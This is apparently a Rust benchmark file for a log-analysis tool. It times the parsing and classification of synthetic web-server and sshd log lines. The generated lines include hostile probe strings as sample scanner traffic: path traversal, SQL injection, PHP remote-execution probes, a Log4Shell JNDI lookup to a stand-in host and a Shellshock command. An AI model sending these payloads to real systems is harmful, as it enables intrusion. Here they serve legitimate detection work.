//! Criterion benches for the line parsers: one group per format (access, Apache error,
//! nginx error, syslog/sshd), throughput in bytes, over a few MB of representative lines
//! built here from hand-written templates varied by a small RNG (no corpus is read, so
//! the numbers do not depend on what happens to be on the machine).

use std::hint::black_box;
use std::time::Duration;

use criterion::{criterion_group, criterion_main, BenchmarkId, Criterion, Throughput};
use knocklog::detect::Classifier;
use knocklog::parse::parse_line;
use knocklog::vocab::event::Format;

/// Bytes of input per format: big enough to leave the L2 cache, small enough to build fast.
const CORPUS_BYTES: usize = 4 << 20;

/// splitmix64, as in knocklog-gen: the benches need variety, not statistical quality.
struct Rng(u64);

impl Rng {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }
    fn below(&mut self, n: u64) -> u64 {
        ((self.next() as u128 * n as u128) >> 64) as u64
    }
    fn pick<'a>(&mut self, items: &[&'a str]) -> &'a str {
        items[self.below(items.len() as u64) as usize]
    }
    fn ipv4(&mut self) -> String {
        format!("{}.{}.{}.{}", 1 + self.below(222), self.below(256), self.below(256), 1 + self.below(254))
    }
    fn ipv6(&mut self) -> String {
        format!("2001:db8:{:x}:{:x}::{:x}", self.below(0x10000), self.below(0x10000), 1 + self.below(0xffff))
    }
    /// Mostly IPv4, some IPv6, like real traffic.
    fn ip(&mut self) -> String {
        if self.below(20) == 0 {
            self.ipv6()
        } else {
            self.ipv4()
        }
    }
    fn port(&mut self) -> u64 {
        32768 + self.below(28000)
    }
}

const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
const WEEKDAYS: [&str; 7] = ["Mon", "Tue", "Wed", "Thu", "Fri", "Sat", "Sun"];
const USERS: [&str; 10] = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "git", "pi", "guest", "solana"];
const BROWSERS: [&str; 5] = [
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/143.0.0.0 Safari/537.36",
    "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Safari/605.1.15",
    "Mozilla/5.0 (X11; Linux x86_64; rv:146.0) Gecko/20100101 Firefox/146.0",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_6 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/18.6 Mobile/15E148 Safari/604.1",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
];
const PAGES: [&str; 8] = [
    "/",
    "/blog/",
    "/blog/2025/12/self-hosting-on-a-raspberry-pi/",
    "/blog/2025/11/backing-up-with-restic/",
    "/css/site.css",
    "/js/site.js",
    "/img/posts/pi-rack.jpg",
    "/feed.xml",
];
const PROBES: [&str; 10] = [
    "/wp-login.php",
    "/.env",
    "/.git/config",
    "/phpmyadmin/index.php",
    "/cgi-bin/luci/;stok=/locale?form=country",
    "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
    "/index.php?s=/Index/\\\\think\\\\app/invokefunction&function=call_user_func_array&vars[0]=md5",
    "/?id=1%27%20OR%201=1--",
    "/..%2f..%2f..%2fetc/passwd",
    "/boaform/admin/formLogin",
];

/// One random instant in early 2026: (day 1-28, hour, minute, second, micros).
fn instant(rng: &mut Rng) -> (u64, u64, u64, u64, u64) {
    (1 + rng.below(28), rng.below(24), rng.below(60), rng.below(60), rng.below(1_000_000))
}

fn access_line(rng: &mut Rng) -> String {
    let (d, h, m, s, _) = instant(rng);
    let month = MONTHS[rng.below(2) as usize];
    let stamp = format!("[{d:02}/{month}/2026:{h:02}:{m:02}:{s:02} +0000]");
    let ip = rng.ip();
    match rng.below(20) {
        // Benign browsing dominates real access logs.
        0..=11 => format!(
            "{ip} - - {stamp} \"GET {} HTTP/1.1\" {} {} \"https://alice.example.net{}\" \"{}\"",
            rng.pick(&PAGES),
            if rng.below(4) == 0 { 304 } else { 200 },
            200 + rng.below(40_000),
            rng.pick(&PAGES),
            rng.pick(&BROWSERS)
        ),
        12 | 13 => format!(
            "{ip} - - {stamp} \"GET {} HTTP/1.1\" 404 492 \"-\" \"{}\"",
            rng.pick(&PROBES),
            rng.pick(&["Mozilla/5.0 zgrab/0.x", "python-requests/2.32.3", "Go-http-client/1.1", BROWSERS[0]])
        ),
        14 => format!("{ip} - {} {stamp} \"GET /private/ HTTP/1.1\" 401 712 \"-\" \"Mozilla/5.0 (Hydra)\"", rng.pick(&USERS)),
        15 => format!(
            "alice.example.net:443 {ip} - - {stamp} \"GET {} HTTP/2.0\" 200 {} \"-\" \"{}\"",
            rng.pick(&PAGES),
            200 + rng.below(40_000),
            rng.pick(&BROWSERS)
        ),
        16 => format!("{ip} - - {stamp} \"GET {} HTTP/1.0\" 200 {}", rng.pick(&PAGES), rng.below(40_000)),
        17 => format!(
            "{ip} - - {stamp} \"GET /?x=${{jndi:ldap://198.51.100.9/a}} HTTP/1.1\" 200 9737 \"${{jndi:ldap://198.51.100.9/a}}\" \"() {{ :; }}; /bin/bash -c \\\"id\\\"\""
        ),
        18 => format!("{ip} - - {stamp} \"\\x16\\x03\\x01\\x02\\x00\\x01\\x00\\x01\\xfc\\x03\\x03\\x8f\\x1e\" 400 483 \"-\" \"-\""),
        _ => format!("{ip} - - {stamp} \"-\" 408 0 \"-\" \"-\""),
    }
}

fn apache_error_line(rng: &mut Rng) -> String {
    let (d, h, m, s, us) = instant(rng);
    let weekday = WEEKDAYS[rng.below(7) as usize];
    let stamp = format!("[{weekday} Jan {d:02} {h:02}:{m:02}:{s:02}.{us:06} 2026]");
    let pid = 1000 + rng.below(60_000);
    let tid = 139_826_000_000_000 + rng.below(400_000) * 4096;
    let client = format!("[client {}:{}]", rng.ip(), rng.port());
    let with = |module: &str, message: String| format!("{stamp} [{module}] [pid {pid}:tid {tid}] {client} {message}");
    match rng.below(10) {
        0 | 1 => with("auth_basic:error", format!("AH01618: user {} not found: /private/", rng.pick(&USERS))),
        2 => with(
            "auth_basic:error",
            "AH01617: user alice: authentication failure for \"/private/\": Password Mismatch".to_string(),
        ),
        3 => with(
            "cgi:error",
            "AH02811: script not found or unable to stat: /usr/lib/cgi-bin/luci, referer: https://www.google.com/".to_string(),
        ),
        4 => with(
            "authz_core:error",
            "AH01630: client denied by server configuration: /var/www/html/.htpasswd".to_string(),
        ),
        5 => with("core:error", "AH10244: invalid URI path (/cgi-bin/.%2e/.%2e/.%2e/.%2e/bin/sh)".to_string()),
        6 => with(
            "php:error",
            "PHP Fatal error:  Uncaught Error: Call to undefined function mysql_connect() in /var/www/html/db.php:3".to_string(),
        ),
        7 => with("core:info", format!("AH00128: File does not exist: /var/www/html{}", rng.pick(&PROBES))),
        // Apache 2.2 and older: no module, no pid, client without port.
        8 => format!(
            "[{weekday} Jan {d:02} {h:02}:{m:02}:{s:02} 2026] [error] [client {}] File does not exist: /var/www/favicon.ico",
            rng.ipv4()
        ),
        _ => format!(
            "{stamp} [mpm_event:notice] [pid 812:tid 139826411825024] AH00489: Apache/2.4.65 (Debian) configured -- resuming normal operations"
        ),
    }
}

fn nginx_error_line(rng: &mut Rng) -> String {
    let (d, h, m, s, _) = instant(rng);
    let stamp = format!("2026/01/{d:02} {h:02}:{m:02}:{s:02}");
    let conn = 1 + rng.below(1_000_000);
    let ip = rng.ip();
    let probe = rng.pick(&PROBES);
    let tail =
        format!("client: {ip}, server: git.example.net, request: \"GET {probe} HTTP/1.1\", host: \"git.example.net\"");
    match rng.below(8) {
        0 | 1 => format!(
            "{stamp} [error] 1234#1234: *{conn} open() \"/var/www/html{probe}\" failed (2: No such file or directory), {tail}"
        ),
        2 => format!(
            "{stamp} [error] 1234#1234: *{conn} user \"{}\" was not found in \"/etc/nginx/htpasswd\", {tail}",
            rng.pick(&USERS)
        ),
        3 => format!("{stamp} [error] 1234#1234: *{conn} user \"alice\": password mismatch, {tail}"),
        4 => format!("{stamp} [error] 1234#1234: *{conn} access forbidden by rule, {tail}"),
        5 => format!(
            "{stamp} [error] 1234#1234: *{conn} connect() failed (111: Connection refused) while connecting to upstream, {tail}, upstream: \"http://127.0.0.1:3000/\""
        ),
        6 => format!(
            "{stamp} [error] 1234#1234: *{conn} limiting requests, excess: 10.520 by zone \"one\", {tail}"
        ),
        _ => format!("{stamp} [notice] 1233#1233: signal process started"),
    }
}

fn syslog_line(rng: &mut Rng) -> String {
    let (d, h, m, s, us) = instant(rng);
    let pid = 100_000 + rng.below(400_000);
    let ip = rng.ip();
    let port = rng.port();
    let user = rng.pick(&USERS);
    let message = match rng.below(10) {
        0 | 1 => format!("Failed password for root from {ip} port {port} ssh2"),
        2 => format!("Failed password for invalid user {user} from {ip} port {port} ssh2"),
        3 => format!("Invalid user {user} from {ip} port {port}"),
        4 => format!("Connection closed by invalid user {user} {ip} port {port} [preauth]"),
        5 => format!("pam_unix(sshd:auth): authentication failure; logname= uid=0 euid=0 tty=ssh ruser= rhost={ip}  user=root"),
        6 => format!("Received disconnect from {ip} port {port}:11: Bye Bye [preauth]"),
        7 => format!("Accepted publickey for alice from {ip} port {port} ssh2: ED25519 SHA256:q3Xv0mK1b9TzR4cWl8nYp2aHs6fJd7gUe5oLi0kBtNw"),
        8 => format!(
            "Unable to negotiate with {ip} port {port}: no matching key exchange method found. Their offer: diffie-hellman-group1-sha1 [preauth]"
        ),
        _ => "pam_unix(cron:session): session opened for user root(uid=0) by root(uid=0)".to_string(),
    };
    let program = if message.starts_with("pam_unix(cron") { "CRON" } else { "sshd" };
    // The three headers a Debian-ish box produces: rsyslog ISO 8601, RFC 3164, RFC 5424.
    match rng.below(4) {
        0 | 1 => format!("2026-01-{d:02}T{h:02}:{m:02}:{s:02}.{us:06}+00:00 homeserver {program}[{pid}]: {message}"),
        2 => format!("Jan {d:>2} {h:02}:{m:02}:{s:02} homeserver {program}[{pid}]: {message}"),
        _ => {
            format!("<38>1 2026-01-{d:02}T{h:02}:{m:02}:{s:02}.{us:06}+00:00 homeserver {program} {pid} - - {message}")
        }
    }
}

/// Lines back to back in one buffer (as the scanner sees them), with their ranges.
struct Corpus {
    text: Vec<u8>,
    lines: Vec<(usize, usize)>,
}

impl Corpus {
    fn build(seed: u64, make: fn(&mut Rng) -> String) -> Corpus {
        let mut rng = Rng(seed);
        let mut text = Vec::with_capacity(CORPUS_BYTES + 512);
        let mut lines = Vec::new();
        while text.len() < CORPUS_BYTES {
            let line = make(&mut rng);
            let start = text.len();
            text.extend_from_slice(line.as_bytes());
            lines.push((start, text.len()));
            text.push(b'\n');
        }
        Corpus { text, lines }
    }

    fn parse_all(&self, format: Format) -> usize {
        let mut parsed = 0;
        for &(start, end) in &self.lines {
            if black_box(parse_line(format, black_box(&self.text[start..end]))).is_some() {
                parsed += 1;
            }
        }
        parsed
    }
}

fn bench_parsers(c: &mut Criterion) {
    let cases: [(&str, Format, fn(&mut Rng) -> String); 4] = [
        ("access", Format::Access, access_line),
        ("apache_error", Format::ApacheError, apache_error_line),
        ("nginx_error", Format::NginxError, nginx_error_line),
        ("syslog", Format::Syslog, syslog_line),
    ];
    for (seed, (name, format, make)) in cases.into_iter().enumerate() {
        let corpus = Corpus::build(seed as u64 + 1, make);
        let mut group = c.benchmark_group(format!("parse/{name}"));
        group.throughput(Throughput::Bytes(corpus.text.len() as u64));
        group.bench_with_input(BenchmarkId::new("lines", corpus.lines.len()), &corpus, |b, corpus| {
            b.iter(|| corpus.parse_all(format))
        });
        group.finish();
    }
}

/// What classification adds to parsing: the same lines parsed, and parsed then
/// classified with the built-in rules (the detection issue's budget: at most 30% of
/// scan throughput).
fn bench_classify(c: &mut Criterion) {
    let classifier = Classifier::new(true, &[], &[]).expect("built-in rules compile");
    let cases: [(&str, Format, fn(&mut Rng) -> String); 2] =
        [("access", Format::Access, access_line), ("syslog", Format::Syslog, syslog_line)];
    for (seed, (name, format, make)) in cases.into_iter().enumerate() {
        let corpus = Corpus::build(seed as u64 + 11, make);
        let mut group = c.benchmark_group(format!("classify/{name}"));
        group.throughput(Throughput::Bytes(corpus.text.len() as u64));
        group.bench_function("parse", |b| b.iter(|| corpus.parse_all(format)));
        group.bench_function("parse+crawler claim", |b| {
            b.iter(|| {
                let mut claims = 0;
                for &(start, end) in &corpus.lines {
                    if let Some(p) = parse_line(format, black_box(&corpus.text[start..end])) {
                        claims += usize::from(knocklog::detect::crawlers::claimed(p.user_agent).is_some());
                    }
                }
                claims
            })
        });
        group.bench_function("parse+classify", |b| {
            b.iter(|| {
                let mut hits = 0;
                for &(start, end) in &corpus.lines {
                    let line = black_box(&corpus.text[start..end]);
                    if let Some(p) = parse_line(format, line) {
                        hits += usize::from(classifier.classify(line, &p, format.log_kind()).is_some());
                    }
                }
                hits
            })
        });
        group.finish();
    }
}

// The bench uses only the AS records of the test writer.
#[allow(dead_code)]
#[path = "../tests/util/mmdb.rs"]
mod mmdb;

/// Labelling a million addresses (`--ranges`, `--asn`): one binary search in the
/// flattened range table, one walk of the MaxMind tree, over a table the size of a
/// cloud provider's published list (8 000 ranges, nested and not).
fn bench_labels(c: &mut Criterion) {
    use knocklog::enrich::geo::GeoDb;
    use knocklog::enrich::ranges::{RangeSource, RangeTable};
    let mut rng = Rng(42);
    let dir = tempfile::tempdir().expect("temp dir");
    let mut csv = String::new();
    let mut networks = Vec::new();
    for i in 0..8000 {
        let prefix = 12 + rng.below(17);
        let net = format!("{}.{}.{}.0/{prefix}", 1 + rng.below(222), rng.below(256), rng.below(256));
        csv.push_str(&format!("{net},label-{}\n", i % 40));
        networks.push((format!("{}.{}.0.0/16", 1 + i / 256 % 222, i % 256), mmdb::asn(64_512 + i as u32, "AS org")));
    }
    let ranges = dir.path().join("ranges.csv");
    std::fs::write(&ranges, csv).expect("write ranges");
    let table = RangeTable::load(&[RangeSource::parse(ranges.to_str().unwrap()).unwrap()]).expect("ranges load");
    let db_path = dir.path().join("asn.mmdb");
    let nets: Vec<(&str, mmdb::Value)> = networks.iter().map(|(n, v)| (n.as_str(), v.clone())).collect();
    std::fs::write(&db_path, mmdb::build("GeoLite2-ASN", &nets)).expect("write mmdb");
    let db = GeoDb::open(&db_path).expect("mmdb opens");
    let addrs: Vec<std::net::IpAddr> = (0..1_000_000).map(|_| rng.ip().parse().unwrap()).collect();
    let mut group = c.benchmark_group("labels");
    group.throughput(Throughput::Elements(addrs.len() as u64));
    group.sample_size(10);
    group.bench_function("ranges/1M addresses", |b| {
        b.iter(|| addrs.iter().filter(|ip| table.label(**ip).is_some()).count())
    });
    group.bench_function("asn mmdb/1M addresses", |b| {
        b.iter(|| addrs.iter().filter(|ip| db.lookup(**ip).asn.is_some()).count())
    });
    group.finish();
}

criterion_group! {
    name = benches;
    // A 4 MB pass takes milliseconds: 20 samples over a few seconds are plenty and keep
    // `cargo bench` short on a shared 2-core machine.
    config = Criterion::default().sample_size(20).measurement_time(Duration::from_secs(4));
    targets = bench_parsers, bench_classify, bench_labels
}
criterion_main!(benches);
